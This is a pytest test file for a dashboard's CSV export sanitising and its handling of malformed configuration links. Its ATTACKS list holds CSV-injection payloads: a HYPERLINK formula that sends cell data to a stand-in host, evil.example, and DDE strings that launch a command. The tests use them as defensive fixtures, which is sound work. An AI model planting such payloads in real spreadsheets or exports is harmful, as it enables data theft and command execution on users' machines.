"""CSV injection in what the app writes or offers (issue #10 item 7), and ``?cfg=`` links whose sections are not
objects or whose values the controls cannot hold (item 8): a sentence, never a traceback or a silent change."""

from __future__ import annotations

import base64
import csv
import io
import json
import zlib

import pandas as pd
import pytest

from dashboard.state import decode_config, encode_config
from omib_core.config import DataConfig, RunConfig, TrainConfig
from omib_core.csvsafe import neutralise, safe_csv
from omib_core.errors import ConfigError
from omib_core.runs.recorder import Recorder
from tests.dashboard.test_page_train import add_fake_run, app, no_exception

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def link(diff: object) -> str:
    """A ``?cfg=`` value carrying any JSON, as a hand-made link would."""
    raw = zlib.compress(json.dumps(diff).encode())
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


# item 7: CSV injection


def test_formula_cells_are_neutralised_and_numbers_are_not() -> None:
    for attack in ATTACKS:
        assert neutralise(attack) == "'" + attack
    for kept in ("-0.5", "+1e-3", "1.5", "plain name", "a=b", "", -0.5, 3, None):
        assert neutralise(kept) == kept
    attacks = ATTACKS[:-1]  # a bare carriage return inside a cell is not quoted by pandas: checked above only
    frame = pd.DataFrame({"name": [*attacks, "ok"], "accuracy": [-0.5] * 6, ATTACKS[0]: range(6)})
    rows = list(csv.reader(io.StringIO(safe_csv(frame), newline="")))
    assert rows[0] == ["name", "accuracy", "'" + ATTACKS[0]]
    assert [r[0] for r in rows[1:]] == ["'" + a for a in attacks] + ["ok"]
    assert all(r[1] == "-0.5" for r in rows[1:])  # numbers stay numbers
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) and cell != "-0.5" for r in rows for cell in r)


def test_history_csv_written_by_the_core_is_neutralised(tmp_path) -> None:
    rec = Recorder(tmp_path, RunConfig())
    rec.columns = ["stage"]
    rec.rows = [{"stage": ATTACKS[1]}]
    text = rec.write_history().read_text()
    assert "'+cmd" in text and "\n+cmd" not in text and ",+cmd" not in text


def test_the_runs_table_and_its_downloads_offer_no_formula() -> None:
    """The Runs table's CSV export is the table as shown: a hostile run name starts with ' there."""
    add_fake_run(name=ATTACKS[0])
    at = app("runs")
    at.run()
    no_exception(at)
    shown = at.dataframe[0].value
    names = [str(n) for n in shown.to_numpy().ravel() if "HYPERLINK" in str(n)]
    assert names and all(n.startswith("'=") for n in names), names


# item 8: malformed link sections and silent clamps


@pytest.mark.parametrize("diff", [{"data": [1, 2, 3]}, {"train": "x"}, {"model": 5}, {"bound": True}])
def test_a_link_section_that_is_not_an_object_is_a_sentence(diff) -> None:
    with pytest.raises(ConfigError, match=r"section is .* not a set of named settings.*ask for a new link"):
        decode_config(link(diff))


@pytest.mark.parametrize("page", ["train", "data"])
@pytest.mark.parametrize("diff", [{"data": [1, 2, 3]}, {"train": "x"}, {"train": {"epochs": [1]}}])
def test_pages_answer_a_malformed_link_with_a_sentence(page: str, diff) -> None:
    at = app(page, cfg=link(diff))
    at.run()
    no_exception(at)
    errors = " ".join(str(e.value) for e in at.error)
    assert "link" in errors and ("section" in errors or "must be" in errors or "wrong type" in errors), errors


def test_a_link_value_the_train_controls_cannot_hold_is_changed_with_a_note() -> None:
    cfg = RunConfig(train=TrainConfig(schedule="fixed", epochs=10**9, batch_size=10**6))
    at = app("train", cfg=encode_config(cfg))
    at.run()
    no_exception(at)
    warnings = " ".join(str(w.value) for w in at.warning)
    assert "Main epochs 1,000,000,000 → 2,000 (the most this page allows)" in warnings, warnings
    assert "Batch size 1,000,000 → 8,192" in warnings, warnings
    assert at.number_input(key="train_epochs").value == 2000
    at.run()  # the note is shown once; the controls keep the fitted value
    assert not any("did not fit" in str(w.value) for w in at.warning)
    assert at.number_input(key="train_epochs").value == 2000


def test_a_link_value_the_data_controls_cannot_hold_is_changed_with_a_note() -> None:
    cfg = RunConfig(data=DataConfig(dataset="sim-i", params={"n_samples": 10**9}, val_fraction=0.6))
    at = app("data", cfg=encode_config(cfg))
    at.run()
    no_exception(at)
    warnings = " ".join(str(w.value) for w in at.warning)
    assert "n_samples 1,000,000,000 → 200,000" in warnings, warnings
    assert "validation fraction 0.6 → 0.4" in warnings, warnings


@pytest.mark.parametrize("page", ["train", "data", "bound", "sweep"])
def test_a_link_over_the_servers_limits_is_refused_before_anything_is_drawn(page, monkeypatch) -> None:
    """Issue 20: a ``?cfg=`` link made the Train page's schedule preview (and the Data page) generate its data in the
    server before any limit was checked (n_samples=600000: 415 -> 4,537 MB). Now the submit-time limits come first:
    a sentence, and the generator is never called."""
    from dashboard import datasets as data_widgets
    from dashboard import services

    jobs = services.jobs()
    monkeypatch.setattr(jobs, "max_samples", 100_000)
    drawn = []
    monkeypatch.setattr(data_widgets, "preview", lambda data: drawn.append(data) or {})
    from omib_core.data import registry

    monkeypatch.setattr(registry, "load_dataset", lambda *a, **k: drawn.append(a) or {})
    cfg = RunConfig(data=DataConfig(dataset="sim-i", params={"n_samples": 150_000}))
    at = app(page, cfg=encode_config(cfg))
    at.run()
    if page == "sweep":  # the link's data is the current experiment, which the sweep form offers as its base
        at.radio(key="sweep_base").set_value("current").run()
    no_exception(at)
    errors = " ".join(str(e.value) for e in at.error)
    assert "at most 100,000 samples per run (OMIB_MAX_SAMPLES)" in errors, errors
    assert drawn == []
